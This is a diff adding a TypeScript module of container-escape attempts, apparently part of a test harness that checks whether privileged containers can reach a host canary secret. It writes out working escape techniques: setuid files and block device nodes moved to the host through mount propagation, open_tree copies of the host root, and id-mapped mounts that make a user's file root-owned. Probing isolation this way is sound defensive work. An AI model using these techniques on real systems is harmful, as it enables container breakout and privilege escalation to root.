@@ -1,0 +1,133 @@
+import { execFile } from 'node:child_process';
+import path from 'node:path';
+import { promisify } from 'node:util';
+import { accompliceAttempts } from './attempt.ts';
+import type { Agent } from './agent.ts';
+import { readNode, rawNode } from './devices.ts';
+import {
+  AT_EMPTY_PATH, AT_FDCWD, CLONE_NEWNS, CLONE_NEWUSER, O_DIRECTORY, O_RDONLY, O_WRONLY, S_IFBLK, u64,
+} from './linux.ts';
+import type { Container } from './ground.ts';
+import type { Scene } from './scene.ts';
+
+const run = promisify(execFile);
+const OPEN_TREE_CLONE = 1, AT_RECURSIVE = 0x8000, MOVE_MOUNT_F_EMPTY_PATH = 4, FSCONFIG_CMD_CREATE = 6;
+const MOUNT_ATTR_IDMAP = 0x10_0000;
+
+/** A new tmpfs, mounted nowhere yet. */
+async function newFileSystem(inside: Agent): Promise<number> {
+  const context = await inside.call('fsopen', 'tmpfs', 0);
+  await inside.call('fsconfig', context, FSCONFIG_CMD_CREATE, 0, 0, 0);
+  return inside.call('fsmount', context, 0, 0);
+}
+
+/** A setuid copy of the tool in a directory that the process has a descriptor of. */
+async function leaveSetuid(agent: Agent, directory: number): Promise<void> {
+  await agent.call('install', directory, 'program');
+  await agent.call('fchmodat', directory, 'program', 0o6755);
+}
+
+/** A copy of what is mounted at `place` with all below, which an ordinary user gets in namespaces of his own. */
+async function copyOutside(outside: Agent, place: string): Promise<number> {
+  await outside.call('unshare', CLONE_NEWUSER | CLONE_NEWNS);
+  return outside.call('open_tree', AT_FDCWD, place, OPEN_TREE_CLONE | AT_RECURSIVE);
+}
+
+/** Attaches a mount in the machine's mount namespace, whose descriptor the process outside hands in. */
+async function attachOnMachine(scene: Scene, inside: Agent, mount: number, place: string): Promise<void> {
+  const outside = await scene.outside();
+  await inside.call('setns', await scene.handOver(outside, '/proc/self/ns/mnt', O_RDONLY, inside), CLONE_NEWNS);
+  await inside.call('move_mount', mount, '', AT_FDCWD, place, MOVE_MOUNT_F_EMPTY_PATH);
+}
+
+/** A user namespace in which id 4242 of a disk is root. */
+async function mapToRoot(scene: Scene, inside: Agent, id: number): Promise<number> {
+  const holder = await scene.in(scene.containers.privileged);
+  await holder.call('unshare', CLONE_NEWUSER);
+  const process = await scene.handOver(holder, '/proc/self', O_RDONLY | O_DIRECTORY, inside);
+  for (const map of ['uid_map', 'gid_map']) {
+    const line = `${id} 0 1`;
+    await inside.call('write', await inside.call('openat', process, map, O_WRONLY), line, line.length);
+  }
+  return inside.call('openat', process, 'ns/user', O_RDONLY);
+}
+
+/** A container whose share hands mounts on to the machine and to other containers. */
+async function propagating(scene: Scene): Promise<Container> {
+  return scene.once('propagating', async () => {
+    // As systemd has it for all that is mounted.
+    await run('mount', ['--bind', scene.share, scene.share]);
+    await run('mount', ['--make-shared', scene.share]);
+    return scene.container('propagating', ['--privileged', '-v', `${scene.share}:/handed:rshared`]);
+  });
+}
+
+/** Mounts a tmpfs in the share, inside; resolves with where it is outside. */
+async function mountInShare(scene: Scene, inside: Agent, outside: Agent, name: string): Promise<string> {
+  const { directory } = await scene.openDirectory(outside, name);
+  await inside.call('mount', 'none', `/handed/${name}`, 'tmpfs', 0, 0);
+  return directory;
+}
+
+export const mountAttempts = accompliceAttempts([
+  {
+    id: 'file-system-on-the-machine',
+    title: 'a file system from inside with a setuid file is attached outside, in the machine\'s mount namespace',
+    attempt: async (scene) => {
+      const [outside, inside] = await scene.both(scene.containers.privileged);
+      const { directory } = await scene.openDirectory(outside, 'file-system');
+      const mount = await newFileSystem(inside);
+      await leaveSetuid(inside, mount);
+      await attachOnMachine(scene, inside, mount, directory);
+      return scene.isCanary(await outside.run(path.join(directory, 'program'), 'cat', scene.secret));
+    },
+  },
+  {
+    id: 'machine-attached-inside',
+    title: 'a copy of the machine\'s mounts, made outside (open_tree), is attached inside and read there',
+    attempt: async (scene) => {
+      const [outside, inside] = await scene.both(scene.containers.privileged);
+      const copy = await scene.pass(outside, await copyOutside(outside, '/'), inside);
+      await inside.call('mkdirat', AT_FDCWD, '/machine', 0o755);
+      await inside.call('move_mount', copy, '', AT_FDCWD, '/machine', MOVE_MOUNT_F_EMPTY_PATH);
+      return scene.isCanary(await scene.readFile(inside, path.join('/machine', scene.secret)));
+    },
+  },
+  {
+    id: 'directory-mapped-to-root',
+    title: 'a copy of the attacker\'s directory is id-mapped inside, so that a setuid file of his is root\'s, and attached outside',
+    attempt: async (scene) => {
+      const [outside, inside] = await scene.both(scene.containers.privileged);
+      const { directory, descriptor } = await scene.openDirectory(outside, 'mapped');
+      const { directory: place } = await scene.openDirectory(outside, 'mapped-place');
+      await leaveSetuid(outside, descriptor);
+      const copying = await scene.outside();
+      const id = await copying.call('geteuid');
+      const copy = await scene.pass(copying, await copyOutside(copying, directory), inside);
+      const map = await mapToRoot(scene, inside, id);
+      await inside.call('mount_setattr', copy, '', AT_EMPTY_PATH, u64(MOUNT_ATTR_IDMAP, 0, 0, map), 32);
+      await attachOnMachine(scene, inside, copy, place);
+      return scene.isCanary(await outside.run(path.join(place, 'program'), 'cat', scene.secret));
+    },
+  },
+  {
+    id: 'setuid-propagated',
+    title: 'a file system that a privileged container mounts in its share shows a setuid file outside',
+    attempt: async (scene) => {
+      const [outside, inside] = await scene.both(await propagating(scene));
+      const directory = await mountInShare(scene, inside, outside, 'setuid-propagated');
+      await leaveSetuid(inside, await inside.call('openat', AT_FDCWD, '/handed/setuid-propagated', O_RDONLY | O_DIRECTORY));
+      return scene.isCanary(await outside.run(path.join(directory, 'program'), 'cat', scene.secret));
+    },
+  },
+  {
+    id: 'node-propagated',
+    title: 'the same with a device node',
+    attempt: async (scene) => {
+      const [outside, inside] = await scene.both(await propagating(scene));
+      const directory = await mountInShare(scene, inside, outside, 'node-propagated');
+      await inside.call('mknodat', AT_FDCWD, '/handed/node-propagated/node', S_IFBLK | 0o666, rawNode(scene));
+      return readNode(scene, outside, AT_FDCWD, path.join(directory, 'node'));
+    },
+  },
+]);
